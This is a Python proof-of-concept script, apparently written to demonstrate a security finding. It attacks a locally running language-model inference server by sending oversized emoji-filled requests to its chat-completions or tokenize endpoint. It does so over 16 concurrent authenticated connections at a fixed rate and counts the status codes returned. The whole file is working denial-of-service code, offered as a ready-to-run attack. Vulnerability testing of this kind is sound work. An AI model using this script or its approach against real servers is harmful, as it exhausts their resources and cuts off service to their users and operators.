"""The attack of finding 1 as a process of its own: one key, many connections, bodies as large as they may be.

    python -m proofs.findings.attack PORT KEY PATH SECONDS

Each connection sends a body, waits for what it is told, and sends the next, at the pace of a fast network. What it was
told is counted; the counts are the last line.
"""

import json
import socket
import sys
import threading
import time
from collections import Counter

NUM_CONNECTIONS = 16
TRIES_PER_S = 64.0
"""Of all connections together: what a network of 1 Gbit/s carries of such bodies."""
NUM_EMOJI = 480_000
TEXT = "\N{GRINNING FACE}" * NUM_EMOJI
BODIES = {
    "/v1/chat/completions": {"messages": [{"role": "user", "content": TEXT}], "max_tokens": 1},
    "/tokenize": {"prompt": TEXT},
}


class Attack:
    """All connections, for some seconds."""

    def __init__(self, port: int, key: str, path: str, seconds: float) -> None:
        body = json.dumps(BODIES[path], ensure_ascii=False).encode()
        head = f"POST {path} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {key}\r\n"
        head += f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n"
        self._data = head.encode() + body
        self._port = port
        self._end_s = time.monotonic() + seconds
        self.told: Counter[str] = Counter()

    def run(self) -> None:
        """Until it is over; what was begun is seen to its end."""
        threads = [threading.Thread(target=self._connection, args=(at,)) for at in range(NUM_CONNECTIONS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _connection(self, at: int) -> None:
        next_s = time.monotonic() + at / TRIES_PER_S
        with socket.create_connection(("127.0.0.1", self._port), timeout=120) as wire:
            while next_s < self._end_s:
                time.sleep(max(0.0, next_s - time.monotonic()))
                wire.sendall(self._data)
                self.told[_status(wire)] += 1
                next_s = max(next_s + NUM_CONNECTIONS / TRIES_PER_S, time.monotonic())


def _status(wire: socket.socket) -> str:
    """Of the next answer, which is read to its end."""
    came = b""
    while b"\r\n\r\n" not in came:
        part = wire.recv(65536)
        if not part:
            return "cut"
        came += part
    head, _, body = came.partition(b"\r\n\r\n")
    lines = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:])
    left = int(lines[b"content-length"]) - len(body)
    while left > 0:
        left -= len(wire.recv(min(65536, left)))
    return head[9:12].decode()


if __name__ == "__main__":
    attack = Attack(int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4]))
    attack.run()
    print(json.dumps(attack.told))
